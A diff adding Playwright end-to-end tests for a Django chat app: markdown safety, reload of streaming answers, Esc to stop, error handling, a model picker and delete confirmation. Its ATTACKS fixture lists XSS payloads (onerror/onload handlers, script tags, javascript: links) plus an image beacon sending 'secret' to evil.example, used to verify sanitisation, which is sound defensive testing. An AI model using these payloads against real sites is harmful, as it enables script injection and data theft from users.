@@ -1,0 +1,181 @@
+"""The chat page in a real Chromium over a real web server: answers stay text, a reload attaches again, Esc stops."""
+
+from collections.abc import Iterator
+
+import pytest
+from django.conf import settings
+from django.db import connection
+from playwright.sync_api import Browser, Page, sync_playwright
+
+from tests.cast import Cast
+from tests.make import make_adapter, make_base, make_conversation, make_turn
+from tests.processes import Processes, wait_for
+from webapp.adapters.models import BaseModel
+from webapp.chat import lifecycle
+from webapp.chat.models import Completion, Conversation
+from webapp.chat.sampling import Sampling
+
+pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.usefixtures("live_streams")]
+
+ATTACKS = """# Heading
+
+<img src=x onerror="window.pwned=1"><svg onload="window.pwned=2"></svg><script>window.pwned=3</script>
+<style>body{display:none}</style><form action="https://evil.example/"><input name=a></form><iframe src="//evil.example">
+
+[one](javascript:window.pwned=4) [two](data:text/html,<script>window.pwned=5</script>) [three](vbscript:x) [ok](https://example.com/)
+![beacon](https://evil.example/?q=secret) ![x](data:image/svg+xml,<svg/onload=window.pwned=6>) <https://example.org>
+
+`</code><img src=x onerror=window.pwned=7>` **bold <b onmouseover=window.pwned=8>x</b>**
+&lt;img src=x onerror=window.pwned=9&gt;
+
+```html"><img src=x onerror=window.pwned=10>
+</pre></code><script>window.pwned=11</script>
+```
+
+| a | b |
+|---|---|
+| <a href="javascript:window.pwned=12" style="position:fixed;inset:0">x</a> | </td><td onclick=window.pwned=13> |
+
+$$\\href{javascript:window.pwned=14}{x}$$ <math><mtext><table><mglyph><style><img src=x onerror=window.pwned=15>
+
+``` unclosed fence <script>window.pwned=16</script>"""
+
+WATCH = """
+window.violations = [];
+document.addEventListener("securitypolicyviolation", (event) => window.violations.push(event.violatedDirective));
+"""
+
+
+@pytest.fixture(scope="module")
+def chromium() -> Iterator[Browser]:
+    with pytest.MonkeyPatch.context() as patch, sync_playwright() as playwright:
+        patch.setenv(
+            "DJANGO_ALLOW_ASYNC_UNSAFE", "1"
+        )  # Playwright keeps a loop in this thread
+        browser = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
+        yield browser
+        browser.close()
+
+
+@pytest.fixture(scope="module")
+def site(broker: str, tmp_path_factory: pytest.TempPathFactory, django_db_setup: None) -> Iterator[str]:
+    """The address of gunicorn on the tests' own database."""
+    database = f"sqlite:///{connection.settings_dict['NAME']}"
+    with Processes(tmp_path_factory.mktemp("site"), DATABASE_URL=database, REDIS_URL=broker) as running:
+        running.manage("collectstatic", "--noinput", "--verbosity", "0")
+        yield running.web(8171)
+
+
+@pytest.fixture
+def page(chromium: Browser, cast: Cast, site: str) -> Iterator[Page]:
+    """Alice's browser, logged in; it notes dialogs, requests to strangers and violations of the policy."""
+    context = chromium.new_context(base_url=site)
+    name = settings.SESSION_COOKIE_NAME
+    context.add_cookies([{"name": name, "value": cast.client("alice").cookies[name].value, "url": site}])
+    page = context.new_page()
+    page.add_init_script(WATCH)
+    dialogs, strangers = [], []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    page.on("request", lambda one: None if one.url.startswith(site) else strangers.append(one.url))
+    yield page
+    assert page.evaluate("window.violations") == []
+    assert dialogs == strangers == []
+    context.close()
+
+
+@pytest.fixture
+def conversation(cast: Cast, base: BaseModel) -> Conversation:
+    return make_conversation(cast.team, cast.alice, base, sampling=Sampling(max_tokens=64).to_dict())
+
+
+def test_what_a_model_writes_stays_text(page: Page, conversation: Conversation) -> None:
+    make_turn(conversation, text=ATTACKS, label='"><script>window.pwned=20</script>', message=ATTACKS)
+    page.goto(f"/chat/{conversation.pk}/")
+    page.wait_for_selector(".markdown")
+    page.wait_for_timeout(300)
+    assert page.evaluate("window.pwned") is None
+    answer = page.locator("[data-text]")
+    tags = set(answer.evaluate("e => [...e.querySelectorAll('*')].map(x => x.tagName)"))
+    assert not tags & {"IMG", "SVG", "SCRIPT", "STYLE", "FORM", "INPUT", "IFRAME", "MATH"}
+    links = answer.evaluate("e => [...e.querySelectorAll('a')].map(x => x.getAttribute('href'))")
+    assert {link for link in links if link} == {"https://example.com/", "https://example.org"}
+    names = answer.evaluate("e => [...e.querySelectorAll('*')].flatMap(x => x.getAttributeNames())")
+    assert set(names) <= {"href", "title", "start", "target", "rel", "tabindex"}
+    assert "onerror" in answer.inner_text()  # shown as it was written
+    assert page.locator(".markdown h1").inner_text() == "Heading"
+
+
+def test_without_the_markdown_library_answers_are_plain_text(page: Page, conversation: Conversation) -> None:
+    page.route("**/marked.umd*.js", lambda route: route.abort())
+    make_turn(conversation, text="**bold** <img src=x onerror=window.pwned=1>")
+    page.goto(f"/chat/{conversation.pk}/")
+    assert page.locator("[data-text]").inner_text() == "**bold** <img src=x onerror=window.pwned=1>"
+
+
+def test_a_reload_attaches_to_the_answer_that_is_written(page: Page, conversation: Conversation) -> None:
+    answer = make_turn(conversation, status="streaming", text="Half an answ").completions.get()
+    page.goto(f"/chat/{conversation.pk}/")
+    wait_for(lambda: page.locator("[data-text]").inner_text() == "Half an answ")
+    assert page.locator("[data-turns]").get_attribute("aria-busy") == "true"
+    Completion.objects.update(text="Half an answer, and")
+    wait_for(lambda: page.locator("[data-text]").inner_text() == "Half an answer, and", seconds=10)
+    page.reload()
+    lifecycle.finish(answer.pk, "Half an answer, and **all**.", {"tokens": 7, "tokens_per_second": 28.1})
+    wait_for(lambda: page.locator(".markdown strong").count() == 1, seconds=10)
+    assert page.locator("[data-numbers]").inner_text() == "7 tokens · 28.1 tok/s"
+    assert page.locator("[data-turns]").get_attribute("aria-busy") == "false"
+
+
+def test_enter_asks_and_escape_stops(page: Page, cast: Cast, conversation: Conversation) -> None:
+    page.goto(f"/chat/{conversation.pk}/")
+    page.fill("textarea[name=message]", "First line")
+    page.press("textarea[name=message]", "Shift+Enter")
+    page.type("textarea[name=message]", "second")
+    page.reload()
+    assert page.input_value("textarea[name=message]") == "First line\nsecond"  # the draft was kept
+    page.press("textarea[name=message]", "Enter")
+    page.wait_for_selector("[data-answer]")
+    assert page.locator(".question p").inner_text() == "First line\nsecond"
+    assert page.input_value("textarea[name=message]") == ""
+    page.keyboard.press("Escape")
+    wait_for(lambda: page.locator("[data-state]").inner_text() == "Stopped", seconds=10)
+    assert Completion.objects.get().status == "stopped"
+    page.click("text=Ask again")
+    wait_for(lambda: Completion.objects.get().status == "queued")
+
+
+def test_an_error_keeps_what_was_typed(page: Page, conversation: Conversation) -> None:
+    page.goto(f"/chat/{conversation.pk}/")
+    page.fill("textarea[name=message]", "cat " * 1000)
+    page.press("textarea[name=message]", "Enter")
+    page.wait_for_selector("[data-errors] .notice")
+    assert "the model reads 512" in page.locator("[data-errors]").inner_text()
+    assert page.input_value("textarea[name=message]").startswith("cat cat")
+    assert page.locator("[data-answer]").count() == 0
+
+
+def test_the_picker_keeps_to_four_on_one_base(page: Page, cast: Cast, base: BaseModel) -> None:
+
+    other = make_base(name="other")
+    for number in range(9):
+        make_adapter(cast.team, base, name=f"adapter {number}")
+    page.goto(f"/chat/?base={base.pk}")
+    boxes = page.locator(f'[data-base="{base.pk}"] input')
+    for number in range(1, 4):
+        boxes.nth(number).check()
+    assert page.locator("[data-targets] input:disabled").count() == 6
+    page.fill("[data-target-search]", "adapter 0")
+    assert page.locator(".target[data-name]:visible").count() == 4  # the one found, and the three chosen
+    page.locator(f'[data-base="{other.pk}"] input').check()
+    assert page.locator("input[name=target]:checked").count() == 1
+
+
+def test_deleting_asks_first(page: Page, conversation: Conversation) -> None:
+    page.goto(f"/chat/{conversation.pk}/")
+    page.click("[aria-label='Delete this conversation']")
+    page.click("#delete >> text=Cancel")
+    assert Conversation.objects.exists()
+    page.click("[aria-label='Delete this conversation']")
+    page.click("#delete button[type=submit]")
+    page.wait_for_url("**/chat/")
+    assert not Conversation.objects.exists()
